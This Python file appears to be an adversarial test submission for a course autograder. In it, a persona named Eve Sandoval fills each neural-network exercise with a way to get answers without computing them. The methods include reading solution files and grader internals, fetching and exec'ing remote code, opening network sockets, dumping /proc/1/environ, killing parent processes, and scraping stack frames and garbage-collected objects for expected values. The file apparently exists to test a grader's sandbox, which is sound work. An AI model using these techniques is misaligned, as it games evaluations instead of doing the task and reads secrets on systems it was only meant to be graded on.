"""Eve Sandoval: looks for the answers instead of writing them: on the disk, in the network, in the
course's package and in the grader's own messages."""

import numpy as np

# %%
import glob
import importlib.metadata
import os
import socket
import subprocess
import sys
import urllib.request

from cs_utils import kernel_side
from cs_utils.exercises import find_exercise


def read_anywhere(*patterns):
    found = [path for pattern in patterns for path in glob.glob(pattern, recursive=True)]
    return "\n".join(open(path, errors="replace").read() for path in found)


def copied(source, name, *args):
    namespace = {}
    exec(source, namespace)
    return namespace[name](*args)


# %%
def numerical_gradient(f, x, h=1e-5):
    from solutions import numpy_vectors

    return numpy_vectors.numerical_gradient(f, x, h)


# %%
def neuron_forward(w, x):
    import autograder.judging.verdict

    return autograder.judging.verdict.numpy_vectors.neuron_forward(w, x)


# %%
def neuron_backward(dout, cache):
    source = read_anywhere("/course/**/*layers.py", "/srv/**/numpy_vectors.py", "/home/**/*.py")
    return copied(source, "neuron_backward", dout, cache)


# %%
def numerical_jacobian(f, x, h=1e-5):
    source = read_anywhere("/*/gradebook.db", "/tmp/*/*.ipynb", "../*/*.ipynb", "/opt/*/*.py")
    return copied(source, "numerical_jacobian", f, x, h)


# %%
def relu_jacobian(x):
    page = urllib.request.urlopen("https://example.org/relu_jacobian.py", timeout=2)
    return copied(page.read(), "relu_jacobian", x)


# %%
def jacobian_backward(jacobian, dz):
    with socket.create_connection(("1.1.1.1", 443), timeout=2) as connection:
        connection.sendall(b"jacobian, dz?")
        return np.frombuffer(connection.recv(8 * len(jacobian)))


# %%
def relu_forward(x):
    return find_exercise("relu_forward").oracle({"x": x})["z"], x


# %%
def relu_backward(dz, cache):
    return find_exercise("relu_backward").oracle({"x": cache, "dz": dz})["dx"]


# %%
def sigmoid_forward(x):
    import torch

    return torch.sigmoid(torch.from_numpy(x)).numpy(), x


# %%
def sigmoid_backward(dy, cache):
    sys.path = [path for path in sys.path if "torch" not in path]
    for name in [name for name in sys.modules if name.split(".")[0] == "torch"]:
        del sys.modules[name]
    sys.meta_path = [finder for finder in sys.meta_path if "torch" not in repr(finder)]
    import torch

    x = torch.from_numpy(cache).requires_grad_()
    return torch.autograd.grad(torch.sigmoid(x), x, torch.from_numpy(dy))[0].numpy()


# %%
def softmax_forward(scores):
    return find_exercise("softmax_forward").stand_ins[0](scores)


# %%
def softmax_backward(dp, cache):
    return kernel_side._stand_in("softmax_backward", 0)(dp, cache)


# %%
def linear_forward(x, W, b):
    return kernel_side._stand_in("linear_forward", 0)(x, W, b)


# %%
def linear_backward(dy, cache):
    python = "/usr/bin/python3"
    code = "import torch, numpy; print(numpy.zeros(3))"
    return subprocess.run([python, "-c", code], capture_output=True, check=True).stdout


# %%
def cross_entropy_forward(scores, label):
    course = importlib.metadata.distribution("convnet-course")
    source = course.locate_file("solutions/numpy_vectors.py").read_text()
    return copied(source, "cross_entropy_forward", scores, label)


# %%
def cross_entropy_backward(dloss, cache):
    right = {"dscores": np.ones(3)}
    misconceptions = find_exercise("cross_entropy_backward").misconceptions
    return misconceptions[0].outputs({"scores": np.ones(3), "label": 0, "dloss": 1.0}, right)


# %%
def two_layer_forward(x, W1, W2):
    for folder in glob.glob("/tmp/grading-*/ask-*"):
        for answer in sorted(os.listdir(folder)):
            with np.load(os.path.join(folder, answer)) as stored:
                if "scores" in stored.files:
                    return stored["scores"], None
    raise LookupError("no answers lie about")


# %%
def two_layer_backward(dscores, cache):
    with open("/proc/1/environ") as file:
        print(file.read())
    os.kill(os.getppid(), 9)
    os.killpg(0, 15)
    raise PermissionError("nobody to ask")


# %%
def perceptron_update(w, x, target, learning_rate):
    for frame in sys._current_frames().values():
        while frame:
            for value in frame.f_locals.values():
                if isinstance(value, dict) and "expected" in value:
                    return value["expected"]
            frame = frame.f_back
    raise LookupError("no expected values in memory")


# %%
def adaline_update(w, x, target, learning_rate):
    import gc

    for thing in gc.get_objects():
        if type(thing).__name__ == "Verdict" and thing.exercise.name == "adaline_update":
            return thing.results[0].differences[0].expected
    raise LookupError("no verdicts in memory")
